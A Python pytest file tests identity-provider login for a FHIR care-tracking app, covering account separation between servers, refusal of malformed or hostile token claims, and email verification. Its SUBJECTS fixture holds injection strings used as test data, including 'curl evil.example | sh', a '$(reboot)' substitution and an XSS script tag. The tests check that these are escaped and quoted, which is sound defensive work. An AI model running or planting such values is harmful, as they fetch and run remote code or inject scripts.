"""Whom a server names is one account of that very server, or a page for the administrator; nothing it says does harm."""

from __future__ import annotations

import html
import re
import shlex
from collections.abc import Iterator
from typing import Any

import pytest
from sqlalchemy import text

from fhir_tracker import accounts, clock, connections, issuers
from fhir_tracker.errors import Conflict
from fhir_tracker.issuers import Terms
from fhir_tracker.storage.accounts import Account
from fhir_tracker.storage.database import Database
from tests.support.other_servers import (
    CLIENT,
    EC384,
    OTHER_RSA,
    RSA,
    Park,
    Practice,
    Server,
    page_of,
    park,
    practice,
    public,
)


@pytest.fixture(scope="module")
def servers() -> Iterator[Park]:
    with park() as found:
        yield found


@pytest.fixture
def clinic(servers: Park, database: Database) -> Practice:
    """A tracker on each kind of database."""
    return practice(servers, database)


def who(clinic: Practice, key: str) -> Account:
    """Who came in by a server."""
    session = clinic.session(clinic.come_in(key))
    with clinic.database.read() as tx:
        return accounts.get(tx, session.account)


def refusals(clinic: Practice) -> list[str]:
    """Why nobody was let in, the oldest first."""
    with clinic.database.read() as tx:
        rows = tx.connection.execute(text("SELECT detail FROM audit WHERE action = 'login-refused' ORDER BY seq"))
        return [str(one.detail) for one in rows]


@pytest.mark.requirement(95)
@pytest.mark.security("A2", "M2")
def test_the_same_practitioner_of_two_servers_is_two_people_in_everything(clinic: Practice) -> None:
    north, south, west = (clinic.connect(Server()) for _ in range(3))
    first, second = clinic.person(north), clinic.person(south)
    assert (who(clinic, north).id, who(clinic, south).id) == (first.id, second.id)
    assert first.id != second.id
    assert first.ref != second.ref
    answer = clinic.come_in(west)
    assert (answer.status_code, "no account" in answer.text) == (403, True)
    with clinic.database.begin() as tx:
        accounts.disable(tx, first.id, clock.now())
    answer = clinic.come_in(north)
    assert (answer.status_code, "switched off" in answer.text) == (403, True)
    assert who(clinic, south).id == second.id
    with clinic.database.begin() as tx:
        accounts.change_roles(tx, first.id, ["provider"], known=("provider",), now=clock.now())
    assert who(clinic, north).roles == ("provider",)
    assert who(clinic, south).roles == ("rn",)


@pytest.mark.requirement(95)
@pytest.mark.security("S8", "M2")
def test_a_server_cannot_name_the_staff_of_another_even_on_its_own_host(clinic: Practice) -> None:
    mine, theirs = Server(), Server()
    north, south = clinic.connect(mine), clinic.connect(theirs)
    clinic.person(south)
    for named in (f"{theirs.base}/Practitioner/nurse", f"{mine.base}/../../{south}/fhir/Practitioner/nurse"):
        mine.claims = {"fhirUser": named}
        answer = clinic.come_in(north)
        assert (answer.status_code, "no member of its staff" in answer.text) == (403, True), named
    mine.claims = {"fhirUser": "Practitioner/nurse"}
    assert "no account" in clinic.come_in(north).text


@pytest.mark.requirement(95)
@pytest.mark.parametrize("user", ["PractitionerRole/nurse", "RelatedPerson/nurse", "Practitioner/nurse"])
def test_staff_of_each_kind_is_told_apart(clinic: Practice, user: str) -> None:
    server = Server(claims={"fhirUser": f"{{base}}/{user}"})
    key = clinic.connect(server)
    others = {"PractitionerRole/nurse", "RelatedPerson/nurse", "Practitioner/nurse"} - {user}
    for other in sorted(others):
        clinic.person(key, other)
    assert clinic.come_in(key).status_code == 403
    made = clinic.person(key, user)
    assert who(clinic, key).id == made.id


SUBJECTS: dict[str, dict[str, object]] = {
    "a command": {"sub": "x; curl evil.example | sh"},
    "a substitution": {"sub": "$(reboot)`id`"},
    "markup": {"sub": "<script>alert(1)</script>\"'"},
    "options": {"sub": "u --role clinic-admin"},
}


@pytest.mark.requirement(95)
@pytest.mark.security("S25")
@pytest.mark.parametrize("kind", SUBJECTS)
def test_what_a_provider_calls_somebody_is_one_word_of_the_command_that_is_told(clinic: Practice, kind: str) -> None:
    key = clinic.connect(Server(claims=SUBJECTS[kind]), provider=True)
    page = clinic.come_in(key)
    assert page.status_code == 403
    assert "<script>alert" not in page.text
    command = html.unescape(next(one for one in re.findall(r"<code>(.*?)</code>", page.text) if "staff add" in one))
    words = shlex.split(command)
    assert words[words.index("--subject") + 1] == SUBJECTS[kind]["sub"]
    assert words[-4:] == ["--name", "YOUR NAME", "--role", "ROLE"]


ODD_SUBJECTS: tuple[dict[str, Any], ...] = (
    {"sub": "a\0b"},
    {"sub": "a\nb"},
    {"sub": " u-1"},
    {"sub": "x" * 5000},
    {"sub": "\ud800"},
    {"sub": "\N{RIGHT-TO-LEFT OVERRIDE}u-1"},
    {"sub": 7},
    {"sub": ["u-1"]},
    {"sub": ""},
    {"nonce": "\ud800"},
    {"azp": {"care-tracker": 1}},
    {"aud": [["care-tracker"], None]},
    {"iss": ["{auth}"]},
    {"exp": "9" * 400},
    {"exp": 10**400},
    {"iat": -1},
    {"iat": 1e308},
    {"nbf": float("-1e308")},
)


@pytest.mark.requirement(95)
@pytest.mark.security("S8", "S34", "S58")
def test_what_no_account_can_be_called_is_refused_on_every_database(clinic: Practice) -> None:
    server = Server()
    key = clinic.connect(server, provider=True)
    clinic.person(key, "u-1", provider=True)
    assert who(clinic, key).subject == "u-1"
    for odd in ODD_SUBJECTS:
        server.claims = odd
        answer = clinic.come_in(key)
        assert (answer.status_code, "<h1>" in answer.text) == (403, True), (odd, answer.text)
    assert len(refusals(clinic)) == len(ODD_SUBJECTS)
    assert max(map(len, refusals(clinic))) < 2000


MAIL = "ann@clinic.example"
MAILS: tuple[tuple[dict[str, Any], bool], ...] = (
    ({"email": MAIL, "email_verified": True}, True),
    ({"email": "Ann@Clinic.Example", "email_verified": True}, True),
    ({"email": MAIL, "email_verified": "true"}, False),
    ({"email": MAIL, "email_verified": 1}, False),
    ({"email": MAIL, "email_verified": [True]}, False),
    ({"email": MAIL, "email_verified": None}, False),
    ({"email": f"{MAIL}\0", "email_verified": True}, False),
    ({"email": f" {MAIL}", "email_verified": True}, False),
    ({"email": "\N{LATIN SMALL LETTER ALPHA}nn@clinic.example", "email_verified": True}, False),
    ({"email": None, "preferred_username": MAIL, "upn": MAIL, "email_verified": True}, False),
    ({"sub": MAIL}, False),
)


@pytest.mark.requirement(95)
@pytest.mark.security("S8", "A2")
def test_a_mail_address_lets_in_only_as_the_provider_vouches_for_it(clinic: Practice) -> None:
    server = Server()
    key = clinic.connect(server, provider=True, subject_claim="email")
    clinic.person(key, MAIL, provider=True)
    for claims, expected in MAILS:
        server.claims = claims
        answer = clinic.come_in(key)
        assert answer.status_code == (303 if expected else 403), claims
    assert "email" in server.asked["scope"].split()


@pytest.mark.requirement(95)
@pytest.mark.security("A2")
def test_a_mail_address_is_one_account_however_its_letters_are_written(clinic: Practice) -> None:
    server = Server()
    key = clinic.connect(server, provider=True, subject_claim="email")
    made = clinic.person(key, "Ann@Clinic.Example", provider=True)
    assert clinic.person(key, "ANN@clinic.example", provider=True).id == made.id
    for written in (MAIL, "Ann@Clinic.Example", "ANN@CLINIC.EXAMPLE"):
        server.claims = {"email": written, "email_verified": True}
        assert who(clinic, key).id == made.id
    other = clinic.connect(Server(claims={"sub": "ANN"}), provider=True)
    clinic.person(other, "ann", provider=True)
    assert clinic.come_in(other).status_code == 403, "a sub has its case"


PROVIDERS: dict[str, tuple[Server, dict[str, Any]]] = {
    "Keycloak": (
        Server(
            openid={"authorization_response_iss_parameter_supported": True, "mtls_endpoint_aliases": {}},
            claims={"typ": "ID", "azp": CLIENT, "sid": "x", "acr": "1", "groups": ["/nurses"], "fhirUser": None},
            keys=(public(OTHER_RSA, kid="two", use="enc", alg="RSA-OAEP"), public(RSA, alg="RS256", x5c=["MII"])),
            back={"iss": "{auth}", "session_state": "x"},
        ),
        {},
    ),
    "Entra": (
        Server(
            openid={
                "code_challenge_methods_supported": None,
                "token_endpoint_auth_methods_supported": [
                    "client_secret_post",
                    "private_key_jwt",
                    "client_secret_basic",
                ],
                "tenant_region_scope": "NA",
                "cloud_instance_name": "login.example",
            },
            claims={
                "ver": "2.0",
                "tid": "t",
                "oid": "o",
                "nbf": 0,
                "aio": "x",
                "rh": "0.A",
                "preferred_username": "a@b",
            },
            keys=(public(RSA, alg=None, x5t="x", issuer="{auth}"),),
            back={"session_state": "x"},
        ),
        {"checks_pkce": False, "client_type": "confidential-symmetric", "secret": "made-up secret/+%"},
    ),
    "Auth0": (
        Server(
            openid={"issuer": "{auth}/"},
            claims={
                "iss": "{auth}/",
                "sub": "u-1",
                "sid": "x",
                "nickname": "ann",
                "updated_at": "2026-01-01T00:00:00Z",
            },
        ),
        {},
    ),
    "Google": (
        Server(
            openid={"code_challenge_methods_supported": ["plain", "S256"], "claims_supported": ["aud", "email"]},
            claims={"azp": CLIENT, "at_hash": "x", "hd": "clinic.example", "email": MAIL, "email_verified": True},
            back={"scope": "email openid", "authuser": "0", "hd": "clinic.example", "prompt": "none"},
            keys=(public(OTHER_RSA, kid="two", alg="RS256"), public(RSA, alg="RS256"), public(EC384, kid="three")),
        ),
        {},
    ),
}


@pytest.mark.requirement(95)
@pytest.mark.parametrize("name", PROVIDERS)
def test_login_providers_let_in_as_they_publish_it(clinic: Practice, name: str) -> None:
    server, terms = PROVIDERS[name]
    key = clinic.connect(server, provider=True, **terms)
    made = clinic.person(key, "u-1", provider=True)
    assert who(clinic, key).id == made.id
    assert {"launch", "fhirUser", "aud"}.isdisjoint({*server.asked["scope"].split(), *server.asked})


HOSTILE: dict[str, tuple[Server, int]] = {
    "one issuer for all tenants": (Server(openid={"issuer": "{at}/{tenantid}/v2.0"}), 502),
    "an issuer of another tenant": (Server(openid={"issuer": "{at}/auth2"}), 502),
    "a token of another tenant": (Server(claims={"iss": "{at}/auth2"}), 403),
    "a token for many": (Server(claims={"aud": [CLIENT, "account"]}), 403),
    "a token for others": (Server(claims={"aud": ["account"], "azp": CLIENT}), 403),
    "no issuer": (Server(openid={"issuer": None}), 502),
    "who answers is not told, though it always is": (
        Server(openid={"authorization_response_iss_parameter_supported": True}),
        400,
    ),
    "a page instead of keys": (Server(pages={"/auth/keys": page_of(b"<p>", kind="text/html")}), 502),
    "keys without end": (Server(keys=tuple(public(RSA, kid=f"k{n}") for n in range(60))), 502),
    "a key that is a text": (Server(keys=("one", None)), 403),  # type: ignore[arg-type]
    "a key of no numbers": (Server(keys=(public(RSA, n="!!", e="AQAB"),)), 502),
    "a secret where keys should be": (Server(keys=({"kty": "oct", "kid": "one", "k": "AAAA", "alg": "RS256"},)), 403),
}


@pytest.mark.security("S1", "S4", "S8", "S13", "S58")
@pytest.mark.parametrize("kind", HOSTILE)
def test_a_provider_that_says_otherwise_lets_nobody_in(clinic: Practice, kind: str) -> None:
    server, status = HOSTILE[kind]
    key = clinic.connect(server, provider=True)
    clinic.person(key, "u-1", provider=True)
    answer = clinic.come_in(key)
    assert (answer.status_code, "<h1>" in answer.text) == (status, True), answer.text


@pytest.mark.security("S12", "M2")
def test_two_connections_never_share_an_issuer_however_it_is_written(clinic: Practice) -> None:
    key = clinic.connect(Server())
    base = clinic.issuer(key).url
    with clinic.database.begin() as tx:
        connections.add(tx, "twin", base, now=clock.now())
    for written in (base, f"{base}/", base.replace("http:", "HTTP:")):
        terms = Terms(url=written, client_id=CLIENT)
        with clinic.database.begin() as tx, pytest.raises(Conflict, match=key):
            issuers.of_connection(tx, "twin", terms, clinic.context.secret_key, clock.now())
